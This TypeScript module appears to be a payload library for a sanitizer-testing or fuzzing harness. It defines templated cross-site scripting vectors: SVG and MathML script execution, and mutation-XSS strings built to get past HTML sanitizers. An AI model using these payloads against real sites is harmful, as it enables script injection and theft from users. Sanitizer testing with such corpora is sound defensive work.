import type { Family } from './payload.ts'

/** SVG and MathML by themselves: they run script, load, and change attributes over time. */
export const drawings: Family = {
  'svg-onload': ({ run }) => `<svg onload="${run}"></svg>`,
  'svg-onload-without-space': ({ run }) => `<svg/onload=${run}>`,
  'svg-script': ({ run }) => `<svg><script>${run}</script></svg>`,
  'svg-script-with-entities': ({ run }) => `<svg><script>&#x5f;${run.slice(1)}</script></svg>`,
  'svg-script-from-elsewhere': ({ ask }) => `<svg><script xlink:href="${ask}"></script></svg>`,
  'svg-script-by-href': ({ ask }) => `<svg><script href="${ask}"/></svg>`,
  'svg-animated-address': ({ run }) =>
    `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">a</text></a></svg>`,
  'svg-animation-begins': ({ run }) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
  'svg-set-address': ({ run }) => `<svg><a><set attributeName="href" to="javascript:${run}"/>a</a></svg>`,
  'svg-set-handler': ({ run }) => `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  'svg-motion': ({ run }) => `<svg><animateMotion onrepeat="${run}" dur="1s" repeatCount="2"/></svg>`,
  'svg-use-of-data': ({ run }) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>`,
  'svg-use-from-elsewhere': ({ ask }) => `<svg><use xlink:href="${ask}#x"/></svg>`,
  'svg-image': ({ ask }) => `<svg><image href="${ask}"/></svg>`,
  'svg-filter-image': ({ ask }) => `<svg><filter><feImage href="${ask}"/></filter></svg>`,
  'svg-foreign-object': ({ run }) =>
    `<svg><foreignObject><img src="x" onerror="${run}"></foreignObject></svg>`,
  'svg-foreign-frame': ({ ask }) =>
    `<svg><foreignObject><iframe src="${ask}"></iframe></foreignObject></svg>`,
  'svg-link': ({ run }) => `<svg><a xlink:href="javascript:${run}"><text y="20">a</text></a></svg>`,
  'svg-style': ({ ask }) => `<svg><style>@import "${ask}";</style></svg>`,
  'svg-fill-from-elsewhere': ({ ask }) => `<svg><rect fill="url(${ask}#a)" width="9" height="9"/></svg>`,
  'svg-handler-element': ({ run }) =>
    `<svg><handler type="text/javascript" ev:event="load">${run}</handler></svg>`,
  'svg-discard': ({ run }) => `<svg><discard onbegin="${run}"/></svg>`,
  'math-link': ({ run }) => `<math href="javascript:${run}">a</math>`,
  'math-xlink': ({ run }) => `<math><mtext xlink:href="javascript:${run}">a</mtext></math>`,
  'math-action': ({ run }) =>
    `<math><maction actiontype="statusline#http://a.example" xlink:href="javascript:${run}">a</maction></math>`,
  'math-annotation': ({ run }) =>
    `<math><annotation-xml encoding="text/html"><img src="x" onerror="${run}"></annotation-xml></math>`,
}

/** HTML that is one tree when it is cleaned and another when it is parsed once more. */
export const mutations: Family = {
  'style-in-svg': ({ run }) => `<svg><style><img title="</style><img src=x onerror=${run}>"></style></svg>`,
  'style-in-math': ({ run }) =>
    `<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=${run}>">`,
  'style-in-math-comment': ({ run }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  'malign-mark': ({ run }) =>
    `<math><mi><mglyph></mi><malignmark><style><b title="</style><img src=x onerror=${run}>">`,
  'form-in-form': ({ run }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  'nested-forms': ({ run }) =>
    `<form><div></form><form><svg><style><b id="</style><img src=x onerror=${run}>">`,
  'paragraph-in-svg': ({ run }) => `<svg></p><style><b title="</style><img src=x onerror=${run}>">`,
  'description-in-svg': ({ run }) =>
    `<svg><desc><style><b title="</style><img src=x onerror=${run}>"></desc>`,
  'title-in-svg': ({ run }) => `<svg><title><style><b id="</style></title><img src=x onerror=${run}>">`,
  'template-in-svg': ({ run }) =>
    `<svg><template><style><b title="</style></template><img src=x onerror=${run}>">`,
  'noscript-in-style': ({ run }) => `<noscript><style></noscript><img src=x onerror=${run}></style>`,
  'noscript-in-svg': ({ run }) => `<svg><noscript><b title="</noscript></svg><img src=x onerror=${run}>">`,
  'xmp-in-svg': ({ run }) => `<svg><xmp><b title="</xmp><img src=x onerror=${run}>"></xmp></svg>`,
  'comment-in-svg-style': ({ run }) => `<svg><style><!--</style><img src=x onerror=${run}>--></style></svg>`,
  'character-data-in-svg': ({ run }) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  'character-data-in-math': ({ run }) => `<math><![CDATA[</math><img src=x onerror=${run}>]]></math>`,
  'annotation-in-svg': ({ run }) =>
    `<math><annotation-xml encoding="text/html"><svg><style><b title="</style><img src=x onerror=${run}>">`,
  'select-in-svg': ({ run }) => `<select><svg><style><b title="</style></select><img src=x onerror=${run}>">`,
  'table-in-math': ({ run }) =>
    `<math><table><tr><mglyph><svg><mtext><style><b title="</style><img src=x onerror=${run}>">`,
  'font-that-leaves': ({ run }) =>
    `<svg><font color="x"><style><b title="</style><img src=x onerror=${run}>">`,
  'break-that-leaves': ({ run }) => `<svg><br><style><b title="</style><img src=x onerror=${run}>">`,
  'line-after-pre': ({ run }) => `<pre>\n\n<img src=x onerror=${run}></pre>`,
  'backtick-in-attribute': ({ run }) => `<img alt="\`\`onerror=${run}" src="x">`,
  'entity-in-attribute': ({ run }) => `<b title="&lt;/b&gt;&lt;img src=x onerror=${run}&gt;">a</b>`,
  'entity-without-semicolon': ({ run }) => `&lt<img src=x onerror=${run}&gt`,
  'entities-as-a-tag': ({ run }) => `&lt;img src=x onerror=${run}&gt;`,
  'entities-as-a-tag-twice': ({ run }) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  'nested-five-hundred-deep': ({ run }) =>
    `${'<div>'.repeat(513)}<svg><style><b title="</style><img src=x onerror=${run}>">`,
  'formatting-adopted': ({ run }) => `<a><b><p></a><table><a href="javascript:${run}">a</b></table>`,
}
